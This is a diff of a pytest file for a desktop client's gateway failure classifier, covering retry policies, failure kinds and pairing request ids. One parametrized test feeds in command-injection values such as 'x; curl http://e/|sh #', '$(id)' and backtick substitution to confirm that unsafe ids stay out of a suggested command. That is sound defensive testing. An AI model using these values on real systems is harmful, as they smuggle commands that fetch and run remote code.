@@ -3,12 +3,23 @@ from __future__ import annotations
 from dataclasses import replace
 from typing import Any
 
+import msgspec
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from cc_desktop.gateway.failures import TABLE, Failure, RetryPolicy, Rule, classify
+from cc_desktop.fleet.model import Problem
+from cc_desktop.gateway.failures import (
+    POLICIES,
+    TABLE,
+    Failure,
+    FailureKind,
+    RetryPolicy,
+    Rule,
+    classify,
+)
 from cc_desktop.protocol.frames import GatewayError, read_error
+from cc_desktop.text.failures import describe
 
 hostile = settings(max_examples=200, deadline=None, derandomize=True)
 
@@ -91,7 +102,7 @@ CASES: list[tuple[str, Failure, str, RetryPolicy]] = [
         "protocol",
         RetryPolicy.STOP,
     ),
-    ("wire version, only a close", Failure(close_code=1002), "protocol", RetryPolicy.STOP),
+    ("wire version, only a close", Failure(close_code=1002), "protocol", RetryPolicy.SLOWLY),
     (
         "bad signature",
         refused(BAD, details=with_code("DEVICE_AUTH_SIGNATURE_INVALID")),
@@ -159,16 +170,29 @@ CASES: list[tuple[str, Failure, str, RetryPolicy]] = [
         "no-permission",
         RetryPolicy.STOP,
     ),
-    ("no scope granted", Failure(kind="scope"), "no-permission", RetryPolicy.STOP),
+    (
+        "no scope granted",
+        Failure(kind=FailureKind.NO_PERMISSION),
+        "no-permission",
+        RetryPolicy.STOP,
+    ),
     ("the seed's dialect", refused(401, close=0), "rejected", RetryPolicy.STOP),
-    ("closed without a word", Failure(close_code=1008), "refused", RetryPolicy.STOP),
+    ("closed without a word", Failure(close_code=1008), "refused", RetryPolicy.SLOWLY),
     ("a web server", Failure(http_status=404), "not-a-gateway", RetryPolicy.SLOWLY),
-    ("no such host", Failure(kind="dns"), "dns", RetryPolicy.RETRY),
-    ("nobody listens", Failure(kind="refused"), "unreachable", RetryPolicy.RETRY),
-    ("certificate", Failure(kind="tls"), "tls", RetryPolicy.STOP),
-    ("no answer", Failure(kind="timeout"), "silent", RetryPolicy.RETRY),
-    ("silent for too long", Failure(kind="silent"), "silent", RetryPolicy.RETRY),
-    ("killed, no close frame", Failure(close_code=1006, kind="lost"), "lost", RetryPolicy.RETRY),
+    ("no such host", Failure(kind=FailureKind.DNS), "dns", RetryPolicy.RETRY),
+    ("nobody listens", Failure(kind=FailureKind.UNREACHABLE), "unreachable", RetryPolicy.RETRY),
+    (
+        "certificate",
+        Failure(kind=FailureKind.CERTIFICATE),
+        "certificate",
+        RetryPolicy.RARELY,
+    ),
+    ("a TLS alert", Failure(kind=FailureKind.TLS), "tls", RetryPolicy.RETRY),
+    ("a tunnel's far end away", Failure(kind=FailureKind.HUNG_UP), "hung-up", RetryPolicy.RETRY),
+    ("a bad proxy", Failure(kind=FailureKind.PROXY), "proxy", RetryPolicy.RARELY),
+    ("our own mistake", Failure(kind=FailureKind.INTERNAL), "internal", RetryPolicy.RARELY),
+    ("silent for too long", Failure(kind=FailureKind.SILENT), "silent", RetryPolicy.RETRY),
+    ("killed, no close frame", Failure(close_code=1006), "lost", RetryPolicy.RETRY),
     ("a proxy whose gateway is away", Failure(http_status=502), "behind-proxy", RetryPolicy.RETRY),
     ("nothing known", Failure(), "lost", RetryPolicy.RETRY),
 ]
@@ -178,12 +202,46 @@ CASES: list[tuple[str, Failure, str, RetryPolicy]] = [
     ("failure", "rule", "then"), [case[1:] for case in CASES], ids=[case[0] for case in CASES]
 )
 def test_each_failure_has_its_verdict(failure: Failure, rule: str, then: RetryPolicy) -> None:
-    verdict = classify(failure)
-    assert (verdict.id, verdict.then) == (rule, then)
-    assert verdict.title
-    assert verdict.message
-    assert verdict.next_step
-    assert verdict.code
+    advice = classify(failure)
+    assert (advice.kind, advice.policy) == (rule, then)
+    assert advice.code
+    assert advice.problem.kind == rule
+
+
+# A gateway that was live before is not given up for a stumble
+
+
+@pytest.mark.parametrize(
+    "failure",
+    [
+        *(Failure(close_code=code) for code in (1000, 1001, 1002, 1006, 1008, 1009, 1011, 1012)),
+        *(Failure(http_status=status) for status in (200, 302, 400, 404, 418, 429, 500, 502, 503)),
+        *(
+            Failure(kind=kind)
+            for kind in FailureKind
+            if POLICIES[kind] in (RetryPolicy.RETRY, RetryPolicy.SLOWLY) and kind != "pairing"
+        ),
+        Failure(kind=FailureKind.NOT_A_GATEWAY),
+    ],
+    ids=repr,
+)
+def test_a_stumble_of_a_gateway_that_was_live_is_retried(failure: Failure) -> None:
+    advice = classify(failure, was_live=True)
+
+    assert advice.policy in (RetryPolicy.RETRY, RetryPolicy.SLOWLY)
+    assert advice.kind is not FailureKind.NOT_A_GATEWAY
+
+
+@pytest.mark.parametrize("status", [401, 403])
+def test_a_refusal_by_a_proxy_blocks_only_what_was_never_live(status: int) -> None:
+    assert classify(Failure(http_status=status)).policy is RetryPolicy.STOP
+    advice = classify(Failure(http_status=status), was_live=True)
+    assert advice.policy is RetryPolicy.SLOWLY
+
+
+def test_a_wrong_token_stops_however_live_it_was() -> None:
+    failure = refused(BAD, details=with_code("AUTH_TOKEN_MISMATCH"))
+    assert classify(failure, was_live=True).policy is RetryPolicy.STOP
 
 
 # The table itself
@@ -201,7 +259,6 @@ def example(rule: Rule) -> Failure:
         else None,
         close_code=next(iter(rule.closes), 0),
         http_status=next(iter(rule.https), 0),
-        kind=next(iter(sorted(rule.kinds)), ""),
     )
 
 
@@ -209,7 +266,7 @@ def first(failure: Failure) -> Rule:
     return next(rule for rule in TABLE if rule.matches(failure))
 
 
-NUMBERED = [pytest.param(rule, id=f"{index}-{rule.id}") for index, rule in enumerate(TABLE)]
+NUMBERED = [pytest.param(rule, id=f"{index}-{rule.kind}") for index, rule in enumerate(TABLE)]
 
 
 @pytest.mark.parametrize("rule", NUMBERED)
@@ -221,74 +278,66 @@ def test_every_row_is_reachable(rule: Rule) -> None:
 def test_every_value_of_a_row_reaches_it(rule: Rule) -> None:
     base = example(rule)
     error = base.error or GatewayError()
+    change = msgspec.structs.replace
     found = [
-        *(replace(base, error=replace(error, details={"code": code})) for code in rule.details),
-        *(replace(base, error=replace(error, code=code)) for code in rule.codes),
-        *(replace(base, close_code=code) for code in rule.closes),
-        *(replace(base, http_status=status) for status in rule.https),
-        *(replace(base, kind=kind) for kind in rule.kinds),
+        *(
+            change(base, error=replace(error, details={**error.details, "code": code}))
+            for code in rule.details
+        ),
+        *(change(base, error=replace(error, code=code)) for code in rule.codes),
+        *(change(base, close_code=code) for code in rule.closes),
+        *(change(base, http_status=status) for status in rule.https),
     ]
-    assert [first(failure).id for failure in found] == [rule.id] * len(found)
+    assert [first(failure).kind for failure in found] == [rule.kind] * len(found)
 
 
-@pytest.mark.parametrize("rule", NUMBERED)
-def test_no_words_for_the_operator_are_missing(rule: Rule) -> None:
-    for text in (rule.id, rule.title, rule.message, rule.next_step):
-        assert text.strip() == text != ""
-    assert rule.message.endswith(".")
-    assert len(rule.title) <= 40
+def test_nothing_known_matches_no_row() -> None:
+    assert not any(rule.matches(Failure()) for rule in TABLE)
+    assert classify(Failure()).kind is FailureKind.LOST
 
 
-def test_rows_of_one_id_agree_on_what_to_do() -> None:
-    assert len({rule.id for rule in TABLE}) == len({(rule.id, rule.then) for rule in TABLE})
+@pytest.mark.parametrize("kind", FailureKind)
+def test_every_kind_has_a_policy(kind: FailureKind) -> None:
+    assert POLICIES[kind] in RetryPolicy
 
 
-def test_the_last_row_speaks_of_everything() -> None:
-    assert TABLE[-1].matches(Failure())
-    assert TABLE[-1].matches(Failure(error=GatewayError("X", "y"), close_code=1, http_status=1))
-    assert not any(rule.matches(Failure()) for rule in TABLE[:-1])
-
-
-# What the words say
+# What is kept for the words
 
 
 def test_the_gateway_s_own_words_are_passed_on() -> None:
-    assert classify(refused(BAD)).message.endswith("It says: words")
-    assert classify(Failure(http_status=403, http_message="by proxy")).message.endswith("by proxy")
-    assert "It says" not in classify(Failure(kind="dns")).message
+    assert classify(refused(BAD)).said == "words"
+    assert classify(Failure(http_status=403, http_message="by proxy")).said == "by proxy"
+    assert classify(Failure(close_code=1008, close_reason="slow consumer")).said == "slow consumer"
+    assert classify(Failure(kind=FailureKind.DNS)).said == ""
 
 
-def test_pairing_names_the_command_with_the_request() -> None:
-    verdict = classify(
-        refused("NOT_PAIRED", details=with_code("PAIRING_REQUIRED", requestId="6f0c-11"))
-    )
-    assert verdict.next_step.endswith("openclaw devices approve 6f0c-11")
-    assert verdict.code == "PAIRING_REQUIRED"
-
-
-@pytest.mark.parametrize("request_id", [None, "", 5, ["x"], "x" * 100])
-def test_pairing_without_a_usable_request_says_where_to_find_it(request_id: object) -> None:
-    verdict = classify(
-        refused("NOT_PAIRED", details=with_code("PAIRING_REQUIRED", requestId=request_id))
-    )
-    assert "openclaw devices list" in verdict.next_step
-    assert "{" not in verdict.next_step
-
-
-def test_a_request_id_cannot_break_the_line() -> None:
-    verdict = classify(
-        refused("NOT_PAIRED", details=with_code("PAIRING_REQUIRED", requestId="a\nb"))
-    )
-    assert "\n" not in verdict.next_step
+@pytest.mark.parametrize("request_id", ["6f0c-11", "r", "A" * 64])
+def test_pairing_keeps_the_id_of_the_request(request_id: str) -> None:
+    details = with_code("PAIRING_REQUIRED", requestId=request_id)
+    advice = classify(refused("NOT_PAIRED", details=details))
+    assert (advice.detail, advice.code) == (request_id, "PAIRING_REQUIRED")
 
 
 @pytest.mark.parametrize(
-    ("expected", "side"), [(5, "this app"), (4, "the gateway"), (2, "the gateway")]
+    "request_id",
+    [
+        *(None, "", 5, ["x"], "x" * 65, "a\nb", "a b", "x; curl http://e/|sh #", "$(id)", "`id`"),
+        *("--all", "-a", "a\u202eb", "\u0661", "a\n", "\u00e9", "a_b", "a.b"),
+    ],
 )
-def test_another_protocol_says_which_side_to_update(expected: int, side: str) -> None:
-    verdict = classify(refused(BAD, close=1002, details={"expectedProtocol": expected}))
-    assert verdict.next_step.endswith(f"update {side}.")
-    assert f"protocol {expected}" in verdict.next_step
+def test_an_id_that_does_not_belong_into_a_command_is_left_out(request_id: object) -> None:
+    details = with_code("PAIRING_REQUIRED", requestId=request_id)
+    advice = classify(refused("NOT_PAIRED", details=details))
+    assert (advice.kind, advice.detail) == ("pairing", "")
+
+
+@pytest.mark.parametrize(
+    ("expected", "kept"),
+    [(5, "5"), (4, "4"), (0, "0"), (True, ""), (-1, ""), (10**9, ""), ("5", ""), (None, "")],
+)
+def test_another_protocol_keeps_which_one(expected: object, kept: str) -> None:
+    details = {"expectedProtocol": expected}
+    assert classify(refused(BAD, close=1002, details=details)).detail == kept
 
 
 @pytest.mark.parametrize(
@@ -297,7 +346,7 @@ def test_another_protocol_says_which_side_to_update(expected: int, side: str) ->
         (refused(BAD, details=with_code("AUTH_RATE_LIMITED"), retryAfterMs=60_000), 60_000),
         (refused("UNAVAILABLE", retryAfterMs=500), 500),
         (Failure(http_status=429, retry_after_ms=30_000), 30_000),
-        (Failure(kind="dns"), 0),
+        (Failure(kind=FailureKind.DNS), 0),
     ],
 )
 def test_it_waits_as_told(failure: Failure, wait_ms: int) -> None:
@@ -322,7 +371,7 @@ def test_it_waits_as_told(failure: Failure, wait_ms: int) -> None:
     ],
 )
 def test_what_the_gateway_says_of_trying_again(failure: Failure, then: RetryPolicy) -> None:
-    assert classify(failure).then is then
+    assert classify(failure).policy is then
 
 
 KNOWN = sorted({value for rule in TABLE for value in (*rule.details, *rule.codes)})
@@ -353,17 +402,16 @@ failures = st.builds(
     http_status=st.integers(0, 999),
     http_message=st.text(max_size=20),
     retry_after_ms=st.integers(0, 2**62),
-    kind=st.sampled_from(["", "dns", "tls", "refused", "timeout", "lost", "scope", "new"]),
+    kind=st.none() | st.sampled_from(FailureKind),
 )
 
 
-@given(failures)
+@given(failures, st.booleans())
 @hostile
-def test_every_failure_gets_words(failure: Failure) -> None:
-    verdict = classify(failure)
-    assert verdict.id in {rule.id for rule in TABLE}
-    assert verdict.title
-    assert verdict.message
-    assert verdict.next_step
-    assert "{request_id}" not in verdict.next_step
-    assert verdict.wait_ms >= 0
+def test_every_failure_gets_advice(failure: Failure, was_live: bool) -> None:
+    advice = classify(failure, was_live=was_live)
+    assert advice.kind in FailureKind
+    assert advice.wait_ms >= 0
+    told = describe(advice.problem)
+    assert all(told)
+    assert told.title in {describe(Problem(kind)).title for kind in FailureKind}
